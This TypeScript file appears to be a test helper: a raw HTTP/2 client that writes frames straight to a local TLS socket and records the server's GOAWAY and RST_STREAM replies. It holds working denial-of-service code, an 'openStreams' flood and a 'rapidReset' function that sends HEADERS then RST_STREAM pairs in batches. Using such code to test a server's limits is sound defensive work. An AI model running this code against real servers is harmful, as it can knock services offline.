/**
 * A raw HTTP/2 client for attacks node's own client will not make: it writes
 * frames straight onto a TLS socket (no stream limit, no queueing) and
 * reports the GOAWAY the server sends back.
 */
import tls from 'node:tls';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const TYPE = { HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4, GOAWAY: 0x7 } as const;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
const ACK = 0x1;

export function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** A GET's header block in HPACK without the dynamic table: :method GET, :scheme https, literal :path and :authority. */
function getHeaderBlock(path: string): Buffer {
  const literal = (nameIndex: number, value: string): Buffer => Buffer.concat([Buffer.from([nameIndex, value.length]), Buffer.from(value, 'latin1')]);
  return Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x04, path), literal(0x01, 'localhost')]);
}

export interface RawH2Connection {
  socket: tls.TLSSocket;
  /** RST_STREAM frames received: stream id and error code. */
  resets: { streamId: number; code: number }[];
  /** Resolves once the server's first SETTINGS has arrived (and been acknowledged). */
  settled: Promise<void>;
  /** The first GOAWAY's error code, when one comes. */
  goaway: Promise<number>;
  /** Resolves when the server closes the connection. */
  closed: Promise<void>;
}

export async function connectRawH2(port: number, ca: string): Promise<RawH2Connection> {
  const socket = tls.connect({ host: '127.0.0.1', port, ca, ALPNProtocols: ['h2'], servername: 'localhost' });
  socket.on('error', () => {});
  await new Promise<void>((resolve, reject) => socket.once('secureConnect', resolve).once('error', reject));
  const resets: RawH2Connection['resets'] = [];
  let resolveSettled: () => void = () => {};
  const settled = new Promise<void>((resolve) => (resolveSettled = resolve));
  let resolveGoaway: (code: number) => void = () => {};
  const goaway = new Promise<number>((resolve) => (resolveGoaway = resolve));
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  let buffered = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    buffered = Buffer.concat([buffered, chunk]);
    while (buffered.length >= 9) {
      const length = buffered.readUIntBE(0, 3);
      if (buffered.length < 9 + length) break;
      const type = buffered[3];
      const flags = buffered[4]!;
      const payload = buffered.subarray(9, 9 + length);
      if (type === TYPE.GOAWAY) resolveGoaway(payload.readUInt32BE(4));
      if (type === TYPE.RST_STREAM) resets.push({ streamId: buffered.readUInt32BE(5) & 0x7fffffff, code: payload.readUInt32BE(0) });
      if (type === TYPE.SETTINGS && (flags & ACK) === 0) {
        socket.write(frame(TYPE.SETTINGS, ACK, 0));
        resolveSettled();
      }
      buffered = buffered.subarray(9 + length);
    }
  });
  socket.write(Buffer.concat([PREFACE, frame(TYPE.SETTINGS, 0, 0)]));
  return { socket, resets, settled, goaway, closed };
}

/** Opens `count` GET streams (ids 1, 3, 5, ...), the i-th of `path(i)`, in one write, and leaves them open. */
export function openStreams(conn: RawH2Connection, path: (i: number) => string, count: number): void {
  const frames: Buffer[] = [];
  for (let i = 0, id = 1; i < count; i++, id += 2) frames.push(frame(TYPE.HEADERS, END_HEADERS | END_STREAM, id, getHeaderBlock(path(i))));
  conn.socket.write(Buffer.concat(frames));
}

/**
 * Writes `count` GETs of `path`, each reset at once with `code`, in writes of
 * a hundred pairs; stops early when the server closes. Returns how many were sent.
 */
export async function rapidReset(conn: RawH2Connection, path: string, count: number, code: number): Promise<number> {
  const block = getHeaderBlock(path);
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(code);
  let sent = 0;
  for (let id = 1; sent < count && !conn.socket.destroyed && conn.socket.writable; ) {
    const batch: Buffer[] = [];
    for (let i = 0; i < 100 && sent < count; i++, sent++, id += 2) {
      batch.push(frame(TYPE.HEADERS, END_HEADERS | END_STREAM, id, block), frame(TYPE.RST_STREAM, 0, id, rst));
    }
    const flushed = conn.socket.write(Buffer.concat(batch));
    await new Promise<void>((resolve) => (flushed ? setImmediate(resolve) : conn.socket.once('drain', resolve)));
  }
  return sent;
}
